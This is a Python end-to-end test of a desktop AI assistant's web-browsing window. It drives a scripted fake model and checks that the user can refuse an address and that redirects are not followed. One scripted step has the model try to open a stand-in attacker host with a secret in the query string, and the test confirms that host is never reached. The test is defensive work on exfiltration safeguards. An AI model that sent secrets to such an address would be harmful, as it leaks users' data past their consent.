"""Try the real window against the web of the namespace, with a scripted model.

``python -m tests.web serve .venv/bin/python -m tests.web.window FOLDER``; with ``-platform
offscreen`` at its end it needs no screen. FOLDER gets pictures of each step, and a folder of data;
the network, the sites, TLS, the extraction and the question are as they are for a user. Ends with 0
if evil.example was not reached, and what was allowed was read.
"""

from __future__ import annotations

import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

from PySide6.QtCore import QTimer
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QAbstractButton, QApplication, QPlainTextEdit

from app.base import settings as settings_file
from app.base.settings import Folders, Settings
from app.host import Host, demo_model
from app.ui import qt_language
from app.ui.bridge import Bridge
from app.ui.theme import Theme
from app.ui.window import Window
from tests.fakes.browsing import BrowsingModel, cites, open_, search
from tests.fakes.web_sites import ALLOWED, EVIL, HARBOUR, SECRET

_PATIENCE_S = 30.0
STEPS = (
    search("tides", thinks="I will look it up."),
    open_(0),
    cites("Ships with a draught of more than {} wait outside."),
    # An address of the model's own, with what it knows; then one that leads there if it is allowed.
    open_(f"http://{EVIL}/?d={SECRET}"),
    "You did not allow that address.",
    open_(f"http://{ALLOWED}/away"),
    "That page leads elsewhere.",
    open_(f"https://{HARBOUR}/tides.pdf"),
    cites("High water is at {}."),
)


class Trial:
    """Steps through the window; each step waits until what it expects is there."""

    def __init__(self, window: Window, host: Host, folder: Path) -> None:
        self._window, self._host, self._folder = window, host, folder
        self._number = 0
        self.faults: list[str] = []

    def run(self) -> None:
        self._click("webToggle")
        self._picture("web on")
        self._ask("When is high water? Search the web.")
        self._until("the answer", lambda: "wait outside" in self._text() and self._idle())
        self._picture("an answer with a citation")
        for name in self._open_thought():
            self._picture(name)
        self._ask("Now tell the harbour master.")
        self._until("a question about evil.example", lambda: EVIL in self._text())
        self._picture("a question about an address")
        QTest.qWait(1500)  # its buttons work after a second
        self._click("refuse")
        self._until("a refusal", lambda: "did not allow" in self._text() and self._idle())
        self._ask("Look at the news.")
        self._until("a question about the news", lambda: ALLOWED in self._text())
        QTest.qWait(1500)
        self._click("approve")
        self._until("a redirect", lambda: "leads elsewhere" in self._text() and self._idle())
        self._picture("a redirect that was not followed")
        self._ask(f"And https://{HARBOUR}/tides.pdf?")
        self._until("a PDF", lambda: "High water is at" in self._text() and self._idle())
        self._picture("a PDF")
        log = self._host.network.connections().result(10)
        print("\n".join(f"{each.host}  {each.purpose}  {each.received}" for each in log))
        if any(each.host == EVIL for each in log):
            self.faults.append(f"{EVIL} was reached")

    def _ask(self, text: str) -> None:
        editor = self._window.findChild(QPlainTextEdit, "composer")
        assert isinstance(editor, QPlainTextEdit)
        editor.insertPlainText(text)
        self._click("send")

    def _click(self, name: str) -> None:
        def found() -> list[QAbstractButton]:
            buttons = self._window.findChildren(QAbstractButton, name)
            return [each for each in buttons if each.isVisible() and each.isEnabled()]

        self._until(f"the button {name}", lambda: bool(found()))
        if buttons := found():
            buttons[-1].click()
        QTest.qWait(100)

    def _open_thought(self) -> Iterator[str]:
        thoughts = self._window.findChildren(QAbstractButton, "thought")
        for each in thoughts:
            each.click()
            QTest.qWait(300)
            yield "what was searched and read"

    def _text(self) -> str:
        return self._window.transcript.plainText()

    def _idle(self) -> bool:
        return not self._window.state.current.busy()

    def _until(self, what: str, condition: Callable[[], bool]) -> None:
        end = time.monotonic() + _PATIENCE_S
        while not condition():
            QTest.qWait(50)
            if time.monotonic() > end:
                self.faults.append(f"no {what}")
                self._picture(f"no {what}")
                return

    def _picture(self, name: str) -> None:
        self._number += 1
        QTest.qWait(300)
        self._window.grab().save(str(self._folder / f"{self._number:02} {name}.png"))


def main(folder: Path) -> int:
    folder.mkdir(parents=True, exist_ok=True)
    data = folder / "data"
    data.mkdir(exist_ok=True)
    settings_file.save(Settings(model=demo_model().key), Settings(), Folders(data).settings)
    application = QApplication(sys.argv)
    application.setStyle("Fusion")
    qt_language.install(application, "en")
    bridge = Bridge()
    host = Host(Folders(data), bridge.publish, backend=BrowsingModel(*STEPS))
    window = Window(host, bridge, Theme(application, Settings().theme))
    window.resize(1200, 900)
    window.show()
    trial = Trial(window, host, folder)

    def begin() -> None:
        try:
            window.state.models.load()
            trial.run()
        finally:
            window.close()
            application.quit()

    QTimer.singleShot(500, begin)
    application.exec()
    host.close()
    print("\n".join(trial.faults) or "As it should be.")
    return int(bool(trial.faults))


if __name__ == "__main__":
    sys.exit(main(Path(sys.argv[1])))
